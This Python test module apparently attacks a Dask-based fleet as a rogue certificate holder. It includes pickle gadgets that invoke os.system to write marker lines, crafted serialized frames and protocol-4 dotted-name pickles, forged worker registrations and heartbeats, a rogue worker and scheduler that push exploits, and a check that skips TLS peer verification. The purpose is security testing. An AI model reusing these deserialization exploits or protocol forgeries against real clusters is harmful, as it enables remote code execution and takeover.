"""Attacks on a fleet by the holder of a certificate: ``python -m tests.fleet.rogue ATTACK FILE.json``.

The file has the settings of the attack: ``address``, ``authority`` and ``certificate`` (files), ``mark`` (a file that an
exploit writes), and its own. The process is not guarded. It prints one JSON value: what the attack obtained.
"""

import asyncio
import contextlib
import json
import os
import ssl
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine, Iterator, Mapping
from contextlib import asynccontextmanager
from enum import Enum
from pathlib import Path
from typing import Any

from distributed import Client, Scheduler, Worker, get_worker
from distributed.core import connect
from distributed.diagnostics.plugin import SchedulerPlugin, WorkerPlugin
from distributed.protocol import Serialize, Serialized, ToPickle
from distributed.security import Security
from distributed.versions import get_versions

SECONDS = 4.0
"""How long an answer may take; an attack that works needs less."""

METRICS = {
    "bandwidth": {"total": 1, "workers": {}, "types": {}},
    "cpu": 0,
    "memory": 0,
    "time": 0.0,
    "task_counts": {},
    "spilled_bytes": {"memory": 0, "disk": 0},
    "digests_total_since_heartbeat": {},
    "managed_bytes": 0,
    "transfer": {},
    "event_loop_interval": 0.1,
}
"""What a worker reports about its host."""

Settings = Mapping[str, Any]


class RogueValue:
    """Writes the id of each process that unpickles it into the file ``mark``. ``way``: how it came there."""

    def __init__(self, mark: str, way: str) -> None:
        self.mark, self.way = mark, way

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"echo {self.way} $PPID >> {self.mark}",)


class EvilError(Exception):
    """An exception that is an exploit."""

    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"echo exception $PPID >> {self.mark}",)


class EvilPlugin(SchedulerPlugin, WorkerPlugin):  # type: ignore[misc]
    """A plugin that is an exploit."""

    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"echo plugin $PPID >> {self.mark}",)


class RogueEnum(Enum):
    """A value of an enumeration."""

    YES = 1


def make_security(settings: Settings) -> Security:
    """The TLS settings of plain ``distributed``."""
    own = settings["certificate"]
    return Security(
        tls_ca_file=settings["authority"],
        tls_client_cert=own,
        tls_worker_cert=own,
        tls_scheduler_cert=own,
        require_encryption=True,
    )


@asynccontextmanager
async def open_comm(settings: Settings) -> AsyncIterator[Any]:
    """A connection to the address."""
    is_plain = settings["address"].startswith("tcp")
    arguments = {} if is_plain else make_security(settings).get_connection_args("worker")
    if not is_plain:
        arguments["ssl_context"].verify_mode = ssl.CERT_NONE  # an attacker does not check the peer
    comm = await connect(settings["address"], timeout=SECONDS, **arguments)
    try:
        yield comm
    finally:
        await comm.close()


async def ask(settings: Settings, message: Mapping[str, Any]) -> str:
    """What a server answers on a new connection: the type of its answer, or of the error."""
    try:
        async with open_comm(settings) as comm:
            await comm.write(message)
            answer = await asyncio.wait_for(comm.read(), SECONDS)
            return str(answer.get("status", "answered")) if isinstance(answer, dict) else f"answered {answer!r}"
    except (OSError, TimeoutError) as error:
        return type(error).__name__


def list_frames(mark: str) -> Iterator[tuple[str, Any]]:
    """Values whose decoding runs an exploit or imports a module."""
    import distributed.protocol.pickle as pickles

    exploit = pickles.dumps(RogueValue(mark, "frame"))
    yield "pickled value", ToPickle(RogueValue(mark, "pickled-value"))
    yield "serialized value", Serialize(RogueValue(mark, "serialized"))
    for family in ("pickle", "dask", "cuda", "numpy"):
        header = {
            "serializer": family,
            "type-serialized": exploit,
            "sub-header": {},
            "writeable": (),
            "compression": (None,),
        }
        yield f"family {family}", Serialized({**header, "split-num-sub-frames": (1,), "split-offsets": (0,)}, [exploit])
    yield "enumeration", RogueEnum.YES
    yield "imported name", {"__Enum__": True, "__module__": "antigravity", "__name__": "webbrowser", "name": "YES"}
    yield (
        "imported part of dask",
        {"__Enum__": True, "__module__": "dask.utils", "__name__": "import_required", "name": "x"},
    )
    for module, name in (
        ("imagesync.fleet.task", "json.JSONDecoder"),
        ("dask._task_spec", "Task.__init__.__globals__"),
    ):
        yield f"dotted name {name}", Serialized(*make_dotted(module, name))


def make_dotted(module: str, name: str) -> tuple[dict[str, Any], list[bytes]]:
    """The pickle of an attribute of an attribute, as protocol 4 has it."""
    words = b"".join(b"\x8c" + bytes([len(word)]) + word.encode() for word in (module, name))
    return {"serializer": "pickle", "writeable": ()}, [b"\x80\x04" + words + b"\x93)R."]


async def send_frames(settings: Settings) -> dict[str, str]:
    """What each frame obtained."""
    return {name: await ask(settings, {"op": "identity", "x": frame}) for name, frame in list_frames(settings["mark"])}


async def ask_operations(settings: Settings) -> dict[str, str]:
    """What each operation of a scheduler and a worker obtained."""
    run = {"function": b"", "args": b"", "kwargs": b"", "wait": True}
    given: dict[str, dict[str, Any]] = {
        "identity": {"n_workers": -1},
        "broadcast": {"msg": {"op": "identity"}},
        "proxy": {"msg": {"op": "identity"}, "worker": "w"},
        "run": run,
        "run_coroutine": run,
        "run_function": run,
        "upload_file": {"filename": "imagesync.py", "data": b"raise SystemExit"},
        "set_metadata": {"keys": ["x"], "value": 1},
        "terminate": {},
        "register-client": {"client": "rogue", "versions": get_versions()},
        "unregister": {"address": settings.get("victim", "tls://127.0.0.1:1")},
        "heartbeat_worker": make_heartbeat(settings.get("victim", "tls://127.0.0.1:1")),
        "register-worker": make_registration("tls://127.0.0.1:2", "rogue", ["a"]),
    }
    return {name: await ask(settings, {"op": name, **given.get(name, {})}) for name in settings["operations"]}


def make_heartbeat(address: str) -> dict[str, Any]:
    """The sign of life of the worker with an address."""
    return {"address": address, "now": 0.0, "metrics": METRICS, "executing": {}, "extensions": {}}


def make_registration(address: str, name: str, targets: list[str]) -> dict[str, Any]:
    """The first message of a worker that offers targets."""
    return {
        "op": "register-worker",
        "address": address,
        "status": "running",
        "nthreads": 1,
        "name": name,
        "now": 0.0,
        "resources": {f"target:{target}": 1 for target in targets},
        "memory_limit": None,
        "local_directory": "",
        "services": {},
        "nanny": None,
        "pid": 1,
        "versions": get_versions(),
        "metrics": METRICS,
        "extra": {},
        "stimulus_id": "rogue",
        "server_id": "rogue",
        "resolve_address": False,
        "reply": False,
    }


async def send_on_stream(settings: Settings) -> dict[str, bool]:
    """Whether each message ends the stream of a client or worker that sends it."""
    found = {}
    for number, message in enumerate(settings["messages"]):
        async with open_comm(settings) as comm:
            if settings["role"] == "client":
                await comm.write(
                    {"op": "register-client", "client": f"rogue-{number}", "versions": get_versions(), "reply": False}
                )
            else:
                await comm.write(
                    make_registration(f"tls://127.0.0.1:{number + 1}", f"rogue-{number}", settings["offers"])
                )
            answer = await asyncio.wait_for(comm.read(), SECONDS)
            assert answer, "the stream began"
            await comm.write([message])
            found[json.dumps(message)] = await is_ended(comm)
    return found


async def offer_more(settings: Settings) -> str:
    """What a sign of life obtains that offers more targets than the registration of its worker."""
    address = "tls://127.0.0.1:3"
    async with open_comm(settings) as comm:
        await comm.write(make_registration(address, "rogue-more", settings["offers"]))
        assert await asyncio.wait_for(comm.read(), SECONDS), "the stream began"
        more = {f"target:{target}": 1 for target in settings["more"]}
        question = {"op": "heartbeat_worker", **make_heartbeat(address)}
        assert await ask(settings, question) == "OK", "an honest sign of life is answered"
        return await ask(settings, {**question, "resources": more})


async def is_ended(comm: Any) -> bool:
    """Whether the peer ends a connection soon."""
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(SECONDS):
            with contextlib.suppress(OSError):
                while True:
                    await comm.read()
            return True
    return False


async def connect_only(settings: Settings) -> dict[str, str]:
    """How a connection with each certificate ends that sends one honest question."""
    question = {"op": "identity", "n_workers": 0}
    tries = {**settings["tries"], "plain": {"address": settings["address"].replace("tls", "tcp")}}
    return {name: await ask({**settings, **more}, question) for name, more in tries.items()}


async def announce_huge(settings: Settings) -> str:
    """Whether the server waits for a message of this many bytes."""
    async with open_comm(settings) as comm:
        await comm.stream.write(settings["size"].to_bytes(8, "little") + b"x" * 64)
        return "ended" if await is_ended(comm) else "waits"


async def use_client(settings: Settings) -> dict[str, str]:
    """What the functions of a client obtain."""
    mark = settings["mark"]
    client = await Client(
        settings["address"], security=make_security(settings), asynchronous=True, set_as_default=False, timeout=20
    )

    async def submit(function: Any, *arguments: Any, **more: Any) -> str:
        future = client.submit(function, *arguments, pure=False, resources={"target:a": 1}, **more)
        await future._state.wait()
        return str(future.status)

    from imagesync.fleet.task import work

    Path("rogue_module.py").write_text(f"import os\nopen({mark!r}, 'a').write(f'upload {{os.getpid()}}\\n')\n")
    attempts: dict[str, Callable[[], Awaitable[Any]]] = {
        "submit os.system": lambda: submit(os.system, f"echo submit $PPID >> {mark}"),
        "submit with an argument that is an exploit": lambda: submit(work, RogueValue(mark, "argument")),
        "submit dict": lambda: submit(dict, a=1),
        "submit work without a text": lambda: submit(work, 1),
        "submit work with more": lambda: submit(work, "{}", text="{}"),
        "an actor": lambda: submit(dict, actor=True),
        "run": lambda: client.run(os.getpid),
        "run_on_scheduler": lambda: client.run_on_scheduler(os.getpid),
        "upload_file": lambda: client.upload_file("rogue_module.py"),
        "register_plugin": lambda: client.register_plugin(EvilPlugin(mark)),
        "restart": lambda: client.restart(timeout=SECONDS),
        "retire_workers": lambda: client.retire_workers(),
        "set_metadata": lambda: client.set_metadata("x", 1),
        "get_events": lambda: client.get_events(),
        "log_event": lambda: client.log_event("print", {"args": ["x"]}),
    }
    found = {}
    for name, attempt in attempts.items():
        try:
            found[name] = f"obtained {await asyncio.wait_for(attempt(), SECONDS)!r}"
        except BaseException as error:
            found[name] = type(error).__name__
    with contextlib.suppress(Exception):
        await asyncio.wait_for(client.close(), SECONDS)
    return found


async def submit_work(settings: Settings) -> str:
    """The status of a task with a hostile assignment."""
    from imagesync.fleet.task import work

    client = await Client(
        settings["address"], security=make_security(settings), asynchronous=True, set_as_default=False, timeout=20
    )
    future = client.submit(work, settings["text"], pure=False, resources={"target:a": 1})
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(asyncio.shield(future._state.wait()), 20)
    status = str(future.status)
    await client.close()
    return status


def work_as_rogue(settings: Settings) -> Callable[[str], Any]:
    """What a worker does whose host is taken over."""
    import imagesync.fleet.task as task

    honest = task.work

    def work(text: str) -> Any:
        document = json.loads(text)
        worker, run, target = get_worker(), document["order"]["run"], document["task"]["target"]
        topic = f"imagesync-{run}-{target}"
        head = {"target": target, "verb": document["task"]["verb"], "attempt": "f0", "number": 1}
        match settings["how"]:
            case "exception":
                raise EvilError(settings["mark"])
            case "result":
                return RogueValue(settings["mark"], "result")
            case "event":
                worker.log_event(topic, {"x": 1})
            case "messages":
                begun = {"event": "begun", "worker": settings.get("name", "rogue")}
                for one in (begun, *settings["documents"]):
                    worker.log_event(topic, one if isinstance(one, str) else json.dumps({**head, "document": one}))
            case "other":
                ended: dict[str, Any] = {"event": "ended", "report": None, "ids": {}, "problems": [], "bug": ""}
                for one in ({"event": "begun", "worker": "rogue"}, ended):
                    claimed = {**head, "target": settings["claims"], "document": one}
                    worker.log_event(f"imagesync-{run}-{settings['claims']}", json.dumps(claimed))
            case "print":
                worker.log_event("print", {"args": ["printed by a worker"], "kwargs": {}})
        return honest(text)

    return work


async def be_worker(settings: Settings) -> str:
    """Work until a signal, for the targets that are offered."""
    import imagesync.fleet.task as task

    task.work = work_as_rogue(settings)  # type: ignore[assignment]
    offers = {f"target:{target}": 1 for target in settings["offers"]}
    async with Worker(
        settings["address"],
        name="rogue",
        nthreads=1,
        resources=offers,
        security=make_security(settings),
        protocol="tls",
        host="127.0.0.1",
        dashboard=False,
        memory_limit=None,
        extensions={},
    ) as worker:
        print("rogue ready", file=sys.stderr, flush=True)
        await worker.finished()
    return "closed"


async def be_scheduler(settings: Settings) -> str:
    """Serve as a scheduler until a signal, with exploits for workers and clients."""

    class Greeter(SchedulerPlugin):  # type: ignore[misc]
        def add_client(self, scheduler: Any, client: str) -> None:
            async def greet() -> None:
                await asyncio.sleep(0.3)
                for name, frame in list_frames(settings["mark"]):
                    scheduler.client_comms[client].send({"op": "event", "topic": "print", "event": (name, frame)})
                scheduler.client_comms[client].send({"op": "error", "exception": ToPickle(EvilError(settings["mark"]))})

            asyncio.get_running_loop().create_task(greet())

        async def add_worker(self, scheduler: Any, worker: str) -> None:
            await asyncio.sleep(0.3)
            kind = settings["how"]
            if kind == "frames":
                for _, frame in list_frames(settings["mark"]):
                    scheduler.stream_comms[worker].send({"op": "free-keys", "keys": [], "stimulus_id": frame})
            elif kind == "operation":
                scheduler.stream_comms[worker].send({"op": "refresh-who-has", "who_has": {}, "stimulus_id": "x"})
            print("rogue greeted", file=sys.stderr, flush=True)

    host, port = settings["address"].removeprefix("tls://").rsplit(":", 1)
    async with Scheduler(
        host=host, port=int(port), protocol="tls", security=make_security(settings), dashboard=False, extensions={}
    ) as scheduler:
        scheduler.add_plugin(Greeter(), name="greeter")
        if settings["how"] == "plugin":
            import distributed.protocol.pickle as pickles

            scheduler.worker_plugins["evil"] = pickles.dumps(EvilPlugin(settings["mark"]))
        print("rogue ready", file=sys.stderr, flush=True)
        await scheduler.finished()
    return "closed"


Client._default_event_handlers = {}  # the scheduler would end the connection because of them


ATTACKS: dict[str, Callable[[Settings], Coroutine[Any, Any, Any]]] = {
    one.__name__: one
    for one in (
        announce_huge,
        ask_operations,
        be_scheduler,
        be_worker,
        connect_only,
        offer_more,
        send_frames,
        send_on_stream,
        submit_work,
        use_client,
    )
}


if __name__ == "__main__":
    print(json.dumps(asyncio.run(ATTACKS[sys.argv[1]](json.loads(Path(sys.argv[2]).read_text())))))
